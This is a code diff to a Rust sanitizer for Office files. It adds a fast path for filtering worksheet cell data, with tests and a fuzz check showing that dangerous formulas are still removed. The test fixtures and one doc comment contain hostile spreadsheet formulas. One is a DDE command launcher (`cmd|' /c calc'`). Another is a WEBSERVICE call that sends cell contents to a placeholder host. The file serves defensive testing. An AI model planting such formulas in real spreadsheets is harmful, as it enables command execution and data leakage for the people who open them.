@@ -14,7 +14,7 @@ use quick_xml::name::ResolveResult;
 use quick_xml::reader::NsReader;
 use quick_xml::Writer;
 
-use super::Refusal;
+use super::{sheet_data, Refusal};
 use crate::config::Hyperlinks;
 use crate::report::What;
 
@@ -122,7 +122,7 @@ fn dangerous_field(instr: &str, hyperlinks: Hyperlinks) -> bool {
 }
 
 /// An Excel formula that talks to another program (DDE: `cmd|' /c calc'!A1`) or calls code.
-fn dangerous_formula(f: &str) -> bool {
+pub(super) fn dangerous_formula(f: &str) -> bool {
     let mut in_string = false;
     for c in f.chars() {
         match c {
@@ -323,7 +323,7 @@ fn attr(reader: &NsReader<&[u8]>, e: &BytesStart<'_>, ns: Option<&str>, local: &
 }
 
 /// Text of a predefined or character reference (`amp`, `#x41`); `None` for anything else.
-fn reference_text(name: &str) -> Option<String> {
+pub(super) fn reference_text(name: &str) -> Option<String> {
     Some(match name {
         "amp" => "&".into(),
         "lt" => "<".into(),
@@ -418,6 +418,86 @@ pub fn filter_into<W: std::io::Write>(
     limits: XmlLimits,
     out: W,
 ) -> Result<(W, XmlFindings), String> {
+    // A worksheet's cell data is scanned by the fast path when it fits its grammar: the rest
+    // of the part (with the cell data cut out) goes through the general filter, which puts
+    // the scanned cells back at the point where they were.
+    if flavor == PartFlavor::Excel && dropped.is_empty() {
+        if let Some((at, region)) = plan_sheet_data(xml, limits) {
+            let rest = [&xml[..at], &xml[region.end..]].concat();
+            let splice = Splice { at, xml, region };
+            return filter_general(&rest, Some(splice), flavor, dropped, hyperlinks, limits, out);
+        }
+    }
+    filter_general(xml, None, flavor, dropped, hyperlinks, limits, out)
+}
+
+/// For the differential fuzz target: run a worksheet through the general filter alone and
+/// through [`filter_into`] (fast path included) and panic if they disagree — different
+/// bytes or findings, or one accepting what the other refuses.
+#[doc(hidden)]
+pub fn check_fast_path_agrees(xml: &[u8]) {
+    let none = BTreeSet::new();
+    let limits = XmlLimits { max_depth: 64 };
+    let general = filter_general(
+        xml,
+        None,
+        PartFlavor::Excel,
+        &none,
+        Hyperlinks::Text,
+        limits,
+        Vec::new(),
+    );
+    let fast = filter_into(xml, PartFlavor::Excel, &none, Hyperlinks::Text, limits, Vec::new());
+    match (general, fast) {
+        (Ok(g), Ok(f)) => assert!(g == f, "the fast path wrote something else"),
+        (Err(_), Err(_)) => {}
+        (g, f) => panic!("the paths disagree: general ok {}, fast ok {}", g.is_ok(), f.is_ok()),
+    }
+}
+
+/// Cell data taken out of a worksheet for the fast path: `xml[at..region.end]`, to be put
+/// back at offset `at` of the rest.
+struct Splice<'x> {
+    at: usize,
+    xml: &'x [u8],
+    region: sheet_data::Region,
+}
+
+/// Events read while looking for `<sheetData>`; it comes right after a few small elements.
+const SHEET_DATA_SEARCH_EVENTS: usize = 4096;
+
+/// Where the cell data starts (just after the `<sheetData>` start tag) and its scan, when
+/// the fast path can take it: `sheetData` unprefixed in the SpreadsheetML namespace (so
+/// the unprefixed cell elements inside are SpreadsheetML too), found early.
+fn plan_sheet_data(xml: &[u8], limits: XmlLimits) -> Option<(usize, sheet_data::Region)> {
+    let mut reader = NsReader::from_reader(xml);
+    for _ in 0..SHEET_DATA_SEARCH_EVENTS {
+        match reader.read_event().ok()? {
+            Event::Start(e) if e.local_name().as_ref() == "sheetData" => {
+                let (ns, _) = reader.resolver().resolve_element(e.name());
+                if e.name().prefix().is_some() || !ns_is(&ns, NS_S) {
+                    return None;
+                }
+                let at = usize::try_from(reader.buffer_position()).ok()?;
+                return sheet_data::scan(xml, at, limits.max_depth).map(|r| (at, r));
+            }
+            Event::Eof | Event::DocType(_) => return None,
+            _ => {}
+        }
+    }
+    None
+}
+
+/// The general filter over `xml`, with cell data spliced back in when there is a splice.
+fn filter_general<W: std::io::Write>(
+    xml: &[u8],
+    mut splice: Option<Splice<'_>>,
+    flavor: PartFlavor,
+    dropped: &BTreeSet<String>,
+    hyperlinks: Hyperlinks,
+    limits: XmlLimits,
+    out: W,
+) -> Result<(W, XmlFindings), String> {
     // Complex fields need a pre-scan and run buffering; most parts have none, and the element
     // name must appear literally, so a byte search decides whether to pay for either.
     let has_fields = flavor == PartFlavor::Word && memchr_find(xml, b"fldChar");
@@ -435,6 +515,7 @@ pub fn filter_into<W: std::io::Write>(
     let mut reader = NsReader::from_reader(xml);
     let mut sink = Sink {
         xml,
+        spliced: splice.as_ref().map(|s| s.xml).unwrap_or_default(),
         out,
         run: None,
         formula: None,
@@ -450,6 +531,19 @@ pub fn filter_into<W: std::io::Write>(
 
     loop {
         let start = usize::try_from(reader.buffer_position()).unwrap_or(usize::MAX);
+        if splice.as_ref().is_some_and(|s| s.at == start) {
+            if let Some(Splice { at, region, .. }) = splice.take() {
+                put_cell_data(
+                    &mut sink,
+                    &mut filter,
+                    at,
+                    &region,
+                    skipping.is_some(),
+                    open.len(),
+                    limits,
+                )?;
+            }
+        }
         let event = reader.read_event().map_err(|e| e.to_string())?;
         let end = usize::try_from(reader.buffer_position()).unwrap_or(usize::MAX);
         // Every event that is kept unchanged is copied from the input as it was parsed.
@@ -625,18 +719,53 @@ pub fn filter_into<W: std::io::Write>(
     if !open.is_empty() {
         return Err("the XML ends inside an element".into());
     }
+    if splice.is_some() {
+        // Never the case (the cut is at an event boundary of the same bytes), but cell data
+        // must never be lost silently.
+        return Err("the worksheet's cell data could not be put back".into());
+    }
     Ok((sink.out, filter.findings))
+}
+
+/// Put scanned cell data back: what the general filter would have written for it (the
+/// region minus its dangerous formulas), with the same findings and the same depth limit.
+fn put_cell_data<W: std::io::Write>(
+    sink: &mut Sink<'_, W>,
+    filter: &mut Filter<'_>,
+    at: usize,
+    region: &sheet_data::Region,
+    skipping: bool,
+    depth: usize,
+    limits: XmlLimits,
+) -> Result<(), String> {
+    if skipping {
+        return Ok(());
+    }
+    if depth as u64 + u64::from(region.depth) > u64::from(limits.max_depth) {
+        return Err(format!("XML nested deeper than {}", limits.max_depth));
+    }
+    let mut from = at;
+    for &(a, b) in &region.dropped {
+        sink.put(Piece::Spliced(from, a)).map_err(|e| e.to_string())?;
+        filter.note(What::Dde, "f", "formula removed, cached value kept");
+        from = b;
+    }
+    sink.put(Piece::Spliced(from, region.end)).map_err(|e| e.to_string())
 }
 
 /// A piece of output: a span of the input copied as it was, or bytes we wrote.
 enum Piece {
     Raw(usize, usize),
+    /// A span of the spliced-in cell data (offsets into the original part).
+    Spliced(usize, usize),
     Owned(Vec<u8>),
 }
 
 /// Where output goes: into the open formula or run buffer, or straight out.
 struct Sink<'x, W> {
     xml: &'x [u8],
+    /// The original part, when cell data was spliced in.
+    spliced: &'x [u8],
     out: W,
     run: Option<(Vec<Piece>, bool, usize)>,
     formula: Option<(Vec<Piece>, String, usize)>,
@@ -654,6 +783,7 @@ impl<W: std::io::Write> Sink<'_, W> {
         }
         match piece {
             Piece::Raw(a, b) => self.out.write_all(self.xml.get(a..b).unwrap_or_default()),
+            Piece::Spliced(a, b) => self.out.write_all(self.spliced.get(a..b).unwrap_or_default()),
             Piece::Owned(bytes) => self.out.write_all(&bytes),
         }
     }
@@ -725,6 +855,108 @@ mod tests {
         assert!(!out.contains("cmd|"), "{out}");
         assert!(out.contains("<v>0</v>") && out.contains("SUM(B1:B3)"));
         assert_eq!(found, [What::Dde]);
+    }
+
+    const SHEET_HEAD: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:x14ac="http://schemas.microsoft.com/office/spreadsheetml/2009/9/ac"><dimension ref="A1:C3"/><sheetData>"#;
+    const SHEET_CELLS: &str = r#"
+ <row r="1" spans="1:3" x14ac:dyDescent="0.25"><c r="A1" t="inlineStr"><is><r><rPr><b/><sz val="11"/><color rgb="FFFF0000"/><rFont val="游ゴシック"/></rPr><t xml:space="preserve">会議 &amp; &lt;x&gt; &#x41;&#66;</t></r></is></c><c r="B1"><f>cmd|' /c calc'!A0</f><v>0</v></c><c r="C1"><f t="shared" ref="C1:C3" si="0">B1*2</f><v>2</v></c></row>
+ <row r="2"><c r="A2" s='1'><f>WEBSERVICE("http://x.example/"&amp;A1)</f><v>x</v></c><c r="C2"><f t="shared" si="0"/><v>4</v></c></row>
+ <row r="3"><c r="A3"><f>"a|b"&amp;SUM(B1:B2)</f><v>3</v></c></row>
+"#;
+    const SHEET_TAIL: &str = r#"</sheetData><hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks><controls><control r:id="rId2"/></controls></worksheet>"#;
+
+    type Outcome = Result<(Vec<u8>, XmlFindings), String>;
+
+    /// Both paths over one part: (general filter alone, filter with the fast path).
+    fn both(xml: &[u8], max_depth: u32) -> (Outcome, Outcome) {
+        let none = BTreeSet::new();
+        let limits = XmlLimits { max_depth };
+        let general = filter_general(
+            xml,
+            None,
+            PartFlavor::Excel,
+            &none,
+            Hyperlinks::Text,
+            limits,
+            Vec::new(),
+        );
+        let fast = filter_into(xml, PartFlavor::Excel, &none, Hyperlinks::Text, limits, Vec::new());
+        (general, fast)
+    }
+
+    #[test]
+    fn the_cell_data_fast_path_writes_what_the_general_filter_writes() {
+        let xml = format!("{SHEET_HEAD}{SHEET_CELLS}{SHEET_TAIL}");
+        assert!(
+            plan_sheet_data(xml.as_bytes(), XmlLimits { max_depth: 64 }).is_some(),
+            "the fast path must take this part"
+        );
+        let (general, fast) = both(xml.as_bytes(), 64);
+        let (general, fast) = (general.unwrap(), fast.unwrap());
+        assert_eq!(String::from_utf8_lossy(&general.0), String::from_utf8_lossy(&fast.0));
+        assert_eq!(general.1, fast.1);
+        let out = String::from_utf8(fast.0).unwrap();
+        assert!(
+            !out.contains("cmd|") && !out.contains("WEBSERVICE") && !out.contains("<control "),
+            "{out}"
+        );
+        assert!(out.contains("SUM(B1:B2)") && out.contains("B1*2") && out.contains("会議 &amp; &lt;x&gt;"));
+        assert_eq!(fast.1.iter().filter(|f| f.0 == What::Dde).count(), 2);
+        // The depth limit counts the cell data as the general filter does.
+        let (general, fast) = both(xml.as_bytes(), 6);
+        assert!(general.is_err() && fast.is_err());
+    }
+
+    #[test]
+    fn the_fast_path_agrees_with_the_general_filter_on_damaged_sheets() {
+        let xml = format!("{SHEET_HEAD}{SHEET_CELLS}{SHEET_TAIL}").into_bytes();
+        let mut seed = 0x9E37_79B9_7F4A_7C15u64;
+        let mut next = move || {
+            seed ^= seed << 13;
+            seed ^= seed >> 7;
+            seed ^= seed << 17;
+            seed
+        };
+        let (mut agreed_ok, mut agreed_err, mut fast_taken) = (0, 0, 0);
+        for _ in 0..3000 {
+            let mut v = xml.clone();
+            for _ in 0..1 + next() % 3 {
+                let at = SHEET_HEAD.len() + (next() as usize % (SHEET_CELLS.len() + 12));
+                match next() % 4 {
+                    0 => v[at] ^= 1 << (next() % 8),
+                    1 => v[at] = b"<>&;/\"\'=fx: "[next() as usize % 12],
+                    2 => {
+                        v.remove(at);
+                    }
+                    _ => v.insert(at, b"<>&/f"[next() as usize % 5]),
+                }
+            }
+            if plan_sheet_data(&v, XmlLimits { max_depth: 64 }).is_some() {
+                fast_taken += 1;
+            }
+            match both(&v, 64) {
+                (Ok(g), Ok(f)) => {
+                    assert_eq!(g.0, f.0, "output differs for {:?}", String::from_utf8_lossy(&v));
+                    assert_eq!(g.1, f.1);
+                    agreed_ok += 1;
+                }
+                (Err(_), Err(_)) => agreed_err += 1,
+                (g, f) => panic!(
+                    "paths disagree: {:?} vs {:?} for {:?}",
+                    g.map(|_| ()),
+                    f.map(|_| ()),
+                    String::from_utf8_lossy(&v)
+                ),
+            }
+        }
+        // Both kinds of outcome were exercised, and damaged cell data the scanner still
+        // accepted as well as cell data it handed back.
+        assert!(agreed_ok > 100 && agreed_err > 100, "{agreed_ok} ok, {agreed_err} err");
+        assert!(
+            fast_taken > 300 && fast_taken < 2900,
+            "fast path taken {fast_taken} times"
+        );
     }
 
     #[test]
